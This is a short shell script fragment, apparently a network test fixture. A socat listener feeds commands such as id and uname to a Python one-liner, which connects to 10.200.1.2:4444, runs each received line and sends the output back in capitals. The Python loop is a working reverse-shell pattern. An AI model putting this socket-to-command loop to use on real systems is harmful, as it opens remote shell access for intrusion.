# Python runs each line that comes by itself, without a shell, and sends what that writes in capitals.
peers() { socat TCP-LISTEN:4444,bind=10.200.1.2 SYSTEM:'echo id; sleep 0.5; echo uname; sleep 0.5; echo ls -d /etc; sleep 0.5; echo id -u; sleep 0.5' & listening t 4444; }
scene() { timeout 8 python3 -ISc 'import socket, subprocess, shlex
s = socket.create_connection(("10.200.1.2", 4444))
for l in s.makefile(): s.sendall(subprocess.run(shlex.split(l), capture_output=True).stdout.upper())'; }
